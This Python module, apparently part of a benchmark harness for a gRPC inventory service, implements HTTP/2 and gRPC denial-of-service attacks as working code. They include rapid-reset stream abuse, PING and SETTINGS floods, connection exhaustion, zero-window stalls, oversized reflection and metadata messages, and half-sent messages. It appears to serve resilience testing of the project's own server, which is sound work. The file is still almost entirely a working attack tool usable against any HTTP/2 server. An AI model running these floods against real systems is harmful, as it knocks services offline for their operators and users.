"""What peers do to a door who mean no good, each until its time is over; they run in a process of their own."""

from __future__ import annotations

import itertools
import json
import os
import resource
import struct
import sys
import threading
import time
from collections import deque
from collections.abc import Callable
from contextlib import ExitStack
from dataclasses import dataclass, field
from typing import Any

from invengine.bench import frames
from invengine.bench.frames import EndedError, Peer, TimeIsOverError, frame, head, prefixed
from invengine.v1 import inventory_service_pb2 as inventory

RESERVE = "/invengine.v1.ReservationService/Reserve"
SUBMIT = "/invengine.v1.ReservationService/Submit"
LEVELS = "/invengine.v1.InventoryService/ListInventoryLevels"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"

REFLECTION_STREAMS = 20
REFLECTION_BYTES = 60 << 20
IDLE_CONNECTIONS = 4_500
FILES_SPARE = 64
CALLS_AT_ONCE = 500
FRAMES_AT_ONCE = 1_000
WINDOWS_CONNECTIONS = 30
WINDOWS_CALLS = 1_000
PART_CONNECTIONS = 5
PARTS = 20
PART_BYTES = (4 << 20) - 1
LESS_PRIORITY = 5
PAUSE_S = 0.01
BEGUN = "begun"
STRONG = "strong"


@dataclass(slots=True)
class Spec:
    """Whom to attack, how and for how long."""

    name: str
    target: str
    seconds: float
    """At most; it ends before when it is told to."""


@dataclass(slots=True)
class Attacker:
    """One thread of an attack: it opens connections, and counts what it sends."""

    target: str
    until_s: float
    over: threading.Event
    connections: int = 0
    is_strong: threading.Event = field(default_factory=threading.Event)
    """What it does once is done."""
    opened: list[Peer] = field(default_factory=list)

    def connect(self, *, window: int = frames.WINDOW_BYTES) -> Peer:
        """A new connection. Raises EndedError or TimeIsOverError."""
        peer = Peer(self.target, self.until_s, self.over, window=window)
        self.connections += 1
        self.opened.append(peer)
        return peer


def idle(attacker: Attacker) -> None:
    """Connections that never call, more than the door lets in."""
    soft, _ = resource.getrlimit(resource.RLIMIT_NOFILE)
    most = min(IDLE_CONNECTIONS, soft - FILES_SPARE)
    held: deque[Peer] = deque()
    try:
        while True:
            held.append(attacker.connect())
            if len(held) > most:
                held.popleft().close()
                attacker.is_strong.set()
    finally:
        for peer in held:
            peer.close()


def resets(attacker: Attacker) -> None:
    """Calls that are given up as soon as they were begun."""
    with attacker.connect() as peer:
        attacker.is_strong.set()
        while True:
            calls = bytearray()
            for _ in range(CALLS_AT_ONCE):
                stream = peer.stream()
                calls += head(stream, RESERVE) + frame(frames.DATA, frames.END_STREAM, stream, prefixed(b"given up"))
                calls += frame(frames.RST_STREAM, 0, stream, (8).to_bytes(4))
            peer.push(bytes(calls))


def pings(attacker: Attacker) -> None:
    """PINGs, each of which wants an answer."""
    _flood(attacker, frame(frames.PING, 0, 0, b"12345678"))


def settings(attacker: Attacker) -> None:
    """SETTINGS, each of which wants an answer."""
    _flood(attacker, frame(frames.SETTINGS, 0, 0, struct.pack(">HI", frames.INITIAL_WINDOW, 65_535)))


def _flood(attacker: Attacker, one: bytes) -> None:
    with attacker.connect() as peer:
        attacker.is_strong.set()
        while True:
            peer.push(one * FRAMES_AT_ONCE)


def windows(attacker: Attacker) -> None:
    """Calls with long answers on connections whose windows are closed."""
    question = prefixed(inventory.ListInventoryLevelsRequest(page_size=1_000).SerializeToString())
    with ExitStack() as stack:
        held = []
        for _ in range(WINDOWS_CONNECTIONS):
            peer = stack.enter_context(attacker.connect(window=0))
            held.append(peer)
            for _ in range(WINDOWS_CALLS):
                stream = peer.stream()
                peer.push(head(stream, LEVELS) + frame(frames.DATA, frames.END_STREAM, stream, question))
        attacker.is_strong.set()
        for peer in itertools.cycle(held):
            peer.rest(PAUSE_S)


def reflection(attacker: Attacker) -> None:
    """Messages of 60 MiB on 20 streams of reflection at once, as fast as their windows let them."""
    with attacker.connect() as peer:
        attacker.is_strong.set()
        while True:
            streams = [peer.stream() for _ in range(REFLECTION_STREAMS)]
            for stream in streams:
                peer.push(head(stream, REFLECTION) + frame(frames.DATA, 0, stream, prefixed(b"", REFLECTION_BYTES)))
            left = dict.fromkeys(streams, REFLECTION_BYTES)
            while left := {stream: rest for stream, rest in left.items() if rest and stream not in peer.ended}:
                for stream in left:
                    peer.data(stream, frames.FRAME_BYTES)
                    left[stream] -= frames.FRAME_BYTES


def reflection_unasked(attacker: Attacker) -> None:
    """The same with a connection for each message, which is written whatever its windows are."""
    with attacker.connect() as peer:
        attacker.is_strong.set()
        stream = peer.stream()
        peer.push(head(stream, REFLECTION) + frame(frames.DATA, 0, stream, prefixed(b"", REFLECTION_BYTES)))
        block = frame(frames.DATA, 0, stream, bytes(frames.FRAME_BYTES))
        for _ in range(REFLECTION_BYTES // frames.FRAME_BYTES):
            peer.push(block)


def metadata(attacker: Attacker) -> None:
    """Calls with more metadata than a call may have, in all sizes that are answered differently."""
    with attacker.connect() as peer:
        attacker.is_strong.set()
        for number in itertools.count():
            size = (200_000, 600_000, 200_000, 2_000_000)[number % 4]
            peer.push(head(peer.stream(), RESERVE, own="x" * size))


def parts(attacker: Attacker) -> None:
    """Messages of 4 MiB of which the last byte does not come, more than the door keeps."""
    with attacker.connect() as peer:
        for _ in range(PARTS):
            stream = peer.stream()
            peer.push(head(stream, SUBMIT) + frame(frames.DATA, 0, stream, prefixed(b"", PART_BYTES + 1)))
            peer.data(stream, PART_BYTES)
        attacker.is_strong.set()
        while True:
            peer.rest(PAUSE_S)


ATTACKS: dict[str, tuple[Callable[[Attacker], None], int]] = {
    "idle": (idle, 1),
    "resets": (resets, 1),
    "pings": (pings, 1),
    "settings": (settings, 1),
    "windows": (windows, 1),
    "reflection": (reflection, 1),
    "reflection_unasked": (reflection_unasked, REFLECTION_STREAMS),
    "metadata": (metadata, 1),
    "parts": (parts, PART_CONNECTIONS),
}
"""Each by its name, and how many do it at once."""


def main() -> int:
    """An attack that the first line of stdin describes, until stdin ends.

    Says when it begins, when what it does once is done, and at its end what it did.
    """
    spec, over = Spec(**json.loads(sys.stdin.readline())), threading.Event()

    def wait() -> None:
        sys.stdin.read()
        over.set()

    threading.Thread(target=wait, daemon=True).start()
    print(BEGUN, flush=True)
    print(json.dumps(attack(spec, over)), flush=True)
    return 0


def attack(spec: Spec, over: threading.Event) -> dict[str, Any]:
    """Attacks until it is over, again and again where the door ends it. It has a lower priority than other programs:
    where it shares a core with other callers, they wait for the door and not for it."""
    os.nice(LESS_PRIORITY)
    run, count = ATTACKS[spec.name]
    until_s = time.monotonic() + spec.seconds
    attackers = [Attacker(spec.target, until_s, over) for _ in range(count)]
    errors: list[BaseException] = []

    def work(attacker: Attacker) -> None:
        try:
            while time.monotonic() < until_s and not over.is_set():
                try:
                    run(attacker)
                except EndedError:
                    time.sleep(PAUSE_S)
        except TimeIsOverError:
            pass
        except BaseException as error:  # Whatever ends a thread ends the run.
            errors.append(error)

    threads = [threading.Thread(target=work, args=(attacker,)) for attacker in attackers]
    for thread in threads:
        thread.start()
    for attacker in attackers:
        attacker.is_strong.wait(spec.seconds)
    print(STRONG, flush=True)
    for thread in threads:
        thread.join()
    if errors:
        raise errors[0]
    return {
        "connections": sum(attacker.connections for attacker in attackers),
        "sent": sum(peer.sent for attacker in attackers for peer in attacker.opened),
    }
